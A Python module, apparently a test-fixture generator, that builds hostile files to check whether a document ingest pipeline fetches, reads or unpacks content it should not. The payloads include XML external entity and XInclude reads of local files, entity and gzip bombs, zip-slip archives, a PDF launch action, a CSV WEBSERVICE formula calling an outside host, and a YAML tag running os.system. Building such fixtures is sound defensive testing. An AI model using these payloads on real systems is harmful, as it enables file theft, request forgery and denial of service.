"""Files that try to make their reader fetch, open, unpack or repeat what is not in them."""

from __future__ import annotations

import gzip
import io
import zipfile

CALM = (
    "The truce between the army of Ruritania and the Free Corps held on Monday, the observers said, and the buses ran."
)


def hostile_files(far: str, near: str) -> dict[str, bytes]:
    """Names and contents of files, each with one trick.

    Args:
        far: an address that listens.
        near: the `file:` address of something that must not be read.
    """
    made = {f"{root}-{trick}.xml": head + body for trick, (head, inner) in _xml(far, near).items() for root, body in _roots(inner).items()}  # fmt: skip
    made |= {f"{kind}-includes": _held(kind, _includes(far, near)) for kind in ("html", "eml", "mhtml", "rss", "md")}
    made |= {f"docx-{trick}.docx": raw for trick, raw in _docx(far, near).items()}
    return made | _zips() | _others(far, near)


def _xml(far: str, near: str) -> dict[str, tuple[bytes, bytes]]:
    """Tricks of XML: what stands before the root, and what stands where the text is."""

    def entity(declared: str) -> bytes:
        return f'<?xml version="1.0"?><!DOCTYPE r [{declared}]>'.encode()

    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    head = b'<?xml version="1.0"?>'
    return {
        "file": (entity(f'<!ENTITY e SYSTEM "{near}">'), b"&e;"),
        "http": (entity(f'<!ENTITY e SYSTEM "{far}e">'), b"&e;"),
        "parameter": (entity(f'<!ENTITY % p SYSTEM "{far}p"> %p;'), b"&e;"),
        "laughs": (entity(f'<!ENTITY l0 "ha">{laughs}'), b"&l9;"),
        "quadratic": (entity(f'<!ENTITY q "{"x" * 50_000}">'), b"&q;" * 2_000),
        "xinclude": (head, f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" parse="text" href="{near}"/>'.encode()),
        "dtd": (f'<?xml version="1.0"?><!DOCTYPE r SYSTEM "{far}d.dtd">'.encode(), b""),
        "stylesheet": (f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{far}s.xsl"?>'.encode(), b""),
    }  # fmt: skip


def _roots(inner: bytes) -> dict[str, bytes]:
    """Kinds of XML with a text in them."""
    text = CALM.encode() + b" " + inner
    return {
        "rss": b"<rss version='2.0'><channel><title>Post</title><item><title>Calm</title><description>" + text + b"</description></item></channel></rss>",
        "atom": b"<feed xmlns='http://www.w3.org/2005/Atom'><title>Post</title><entry><id>a</id><content type='text'>" + text + b"</content></entry></feed>",
        "xhtml": b"<html xmlns='http://www.w3.org/1999/xhtml'><body><article><p>" + text + b"</p></article></body></html>",
        "tei": b"<TEI xmlns='http://www.tei-c.org/ns/1.0'><text><p>" + text + b"</p></text></TEI>",
        "svg": b"<svg xmlns='http://www.w3.org/2000/svg'><text>" + text + b"</text></svg>",
    }  # fmt: skip


def _includes(far: str, near: str) -> str:
    """Everything by which a page has something fetched or shown that is not in it."""
    targets = [
        (f'<img src="{x}i.png"><iframe src="{x}f"></iframe><object data="{x}o"></object><embed src="{x}m">'
         f'<link rel="stylesheet" href="{x}c.css"><script src="{x}s.js"></script><base href="{x}">'
         f'<video poster="{x}p"><source src="{x}v"></video><svg><image href="{x}g"/><use xlink:href="{x}u#a"/></svg>'
         f'<style>@import url({x}y.css)</style><meta http-equiv="refresh" content="0;url={x}r"><!--#include file="{x}" -->')
        for x in (far, near)
    ]  # fmt: skip
    return f"<p>{CALM}</p>{''.join(targets)}<p>{CALM}</p>"


def _held(kind: str, inner: str) -> bytes:
    page = f"<!doctype html><html><body><article>{inner}</article></body></html>"
    mail = "From: a@example.org\nTo: b@example.org\nSubject: Calm\nDate: Mon, 4 Mar 2019 10:00:00 +0000\nMIME-Version: 1.0\n"
    return {
        "html": page,
        "eml": f"{mail}Content-Type: text/html; charset=utf-8\n\n{page}",
        "mhtml": f'{mail}Snapshot-Content-Location: file:///etc/passwd\nContent-Type: multipart/related; boundary="b"; type="text/html"\n\n--b\nContent-Type: text/html\nContent-Location: file:///etc/passwd\n\n{page}\n--b--\n',
        "rss": f"<rss version='2.0'><channel><title>P</title><item><title>Calm</title><description><![CDATA[{inner}]]></description></item></channel></rss>",
        "md": f"# Calm\n\n{CALM}\n\n{inner}\n",
    }[kind].encode()  # fmt: skip


def _docx(far: str, near: str) -> dict[str, bytes]:
    """Word documents whose parts lie elsewhere, or bring entities along."""
    from docx import Document

    plain = io.BytesIO()
    made = Document()
    made.add_paragraph(CALM)
    made.save(plain)
    parts = {}
    with zipfile.ZipFile(plain) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    rels, body = "word/_rels/document.xml.rels", "word/document.xml"

    def with_(**changed: bytes) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, raw in {
                **parts,
                **{{"rels": rels, "body": body}.get(k, k): v for k, v in changed.items()},
            }.items():
                archive.writestr(name, raw)
        return out.getvalue()

    def linked(target: str) -> bytes:
        kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
        more = f'<Relationship Id="x9" Type="{kind}" Target="{target}" TargetMode="External"/></Relationships>'
        return parts[rels].replace(b"</Relationships>", more.encode())

    tricks = {name: (head, inner) for name, (head, inner) in _xml(far, near).items() if head.count(b"ENTITY") or name == "xinclude"}  # fmt: skip
    out = {f"template-{n}": with_(rels=linked(x)) for n, x in enumerate((far, near))}
    for name, (head, inner) in tricks.items():
        text = parts[body].split(b"?>", 1)[1].replace(CALM.encode(), CALM.encode() + inner)
        out[f"body-{name}"] = with_(body=head + text)
    return out | {"climbing": with_(**{"../../../../tmp/climbed.txt": b"out", "/tmp/climbed.txt": b"out"})}


def _zips() -> dict[str, bytes]:
    """Archives that would write outside their folder, or swell."""
    climbing = io.BytesIO()
    with zipfile.ZipFile(climbing, "w") as archive:
        for name in ("../climbed.txt", "/tmp/climbed.txt", "C:\\climbed.txt", "a/../../climbed.txt"):
            archive.writestr(name, CALM)
    return {
        "climbing.zip": climbing.getvalue(),
        "swelling.txt.gz": gzip.compress(bytes(600_000_000), 1),
        "twice.txt.gz": gzip.compress(gzip.compress(CALM.encode())),
    }


def _others(far: str, near: str) -> dict[str, bytes]:
    """Tricks of the kinds that are no XML."""
    mail = "From: a@example.org\nTo: b@example.org\nSubject: Calm\nMIME-Version: 1.0\n"
    local = near.removeprefix("file://")
    pdf = f"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F({local})>>>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj 3 0 obj<</Type/Page/Parent 2 0 R/AA<</O<</S/URI/URI({far})>>>>/Contents 4 0 R>>endobj 4 0 obj<</F({local})/Length 0>>stream\n\nendstream endobj\ntrailer<</Root 1 0 R>>"
    record = "WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: {0}\r\nContent-Type: application/http; msgtype=response\r\nContent-Length: {1}\r\n\r\n{2}\r\n\r\n"
    moved = f"HTTP/1.1 302 Found\r\nLocation: {far}\r\n\r\n"
    return {
        "launch.pdf": pdf.encode(),
        "moved.warc": record.format(far, len(moved), moved).encode(),
        "climbing.warc": record.format("../../../../etc/passwd", len(moved), moved).encode(),
        "endless.warc": record.format(near, 10**12, moved).encode(),
        "external-body.eml": f'{mail}Content-Type: message/external-body; access-type=local-file; name="{local}"\n\nContent-Type: text/plain\n\n'.encode(),
        "deep.eml": (mail + "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(3000))).encode(),
        "address.json": f'{{"text": "", "url": "{near}"}}'.encode(),
        "reference.json": f'{{"text": {{"$ref": "{near}"}}, "published": "2019-03-04"}}'.encode(),
        "deep.json": b"[" * 100_000 + b"]" * 100_000,
        "guardian.json": f'{{"response": {{"results": [{{"webTitle": "Calm", "webUrl": "{near}", "fields": {{"x": 1}}}}]}}}}'.encode(),
        "formula.csv": f'text,url\n"=WEBSERVICE(""{far}"") {CALM}",{near}\n'.encode(),
        "front.md": f"---\ntitle: !!python/object/apply:os.system ['cat {local}']\nauthor: !include {local}\n---\n{CALM}\n".encode(),
        "include.rtf": ("{\\rtf1{\\field{\\*\\fldinst INCLUDETEXT \"" + local + "\"}}{\\*\\template " + far + "} " + CALM + "}").encode(),
        "robots.html": f'<html><head><link rel="canonical" href="{near}"></head><body><p>{CALM}</p></body></html>'.encode(),
        "linked.rss": f"<rss version='2.0'><channel><title>P</title><item><title>Calm</title><link>{near}</link></item></channel></rss>".encode(),
    }  # fmt: skip
